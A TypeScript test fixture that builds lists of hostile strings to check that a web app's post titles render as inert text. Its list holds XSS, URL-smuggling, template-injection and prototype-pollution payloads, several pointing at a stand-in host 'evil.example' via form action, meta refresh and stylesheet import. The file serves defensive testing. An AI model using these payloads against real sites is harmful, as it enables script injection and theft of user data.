import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';

const FILE = resolve(import.meta.dirname, '../../server/node/tests/data/naughty-strings.json');

/** Texts that break things, as they are sent. */
export const NAUGHTY_STRINGS: readonly string[] = JSON.parse(readFileSync(FILE, 'utf8'));

/** Texts that leave a mark on the page, should any of them ever be more than text. */
export const BOOBY_TRAPS: readonly string[] = [
  '<script>window.__pwned = 1</script>',
  '</p></article><script>window.__pwned = 1</script>',
  '<img src="x" onerror="window.__pwned = 1">',
  '<svg><script>window.__pwned = 1</script></svg>',
  '<svg/onload=window.__pwned=1>',
  '<details open ontoggle="window.__pwned = 1">x</details>',
  '<input autofocus onfocus="window.__pwned = 1">',
  '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
  '<math><mtext></p><style><img src=x onerror="window.__pwned = 1">',
  '<a href="javascript:window.__pwned = 1">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/"><button>Join</button></form>',
  '<style>@import "https://evil.example/x.css";</style>',
  'javascript:window.__pwned = 1',
  'https://example.org/"onmouseover="window.__pwned=1"',
  "https://example.org/'onfocus='window.__pwned=1'autofocus='",
  'https://example.org/<img src=x onerror=window.__pwned=1>',
  'https://example.org/`${window.__pwned=1}`',
  'http://javascript:window.__pwned=1@example.org/',
  'https://bank.example@evil.example/',
  'data:text/html,<script>parent.__pwned = 1</script>',
  '{{constructor.constructor("window.__pwned = 1")()}}',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.__pwned=1>"}}}',
  '\u202Egnp.exe\u202C \u2066isolated',
  `unbroken ${'w'.repeat(600)}`,
  `https://example.org/${'long'.repeat(200)}`,
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034DA\u036B\u0357\u0334\u0362',
];

/** Longest title that the composer posts. */
const TITLE_MAX_CHARS = 200;

/** Some that someone could write as a title: on one line, not too long, with no blank at either end. */
export const WRITABLE: readonly string[] = [...BOOBY_TRAPS, ...NAUGHTY_STRINGS.filter((_, at) => at % 40 === 7)].filter(
  (text) => text !== '' && text.length <= TITLE_MAX_CHARS && text.trim() === text && !/[\r\n]/.test(text),
);
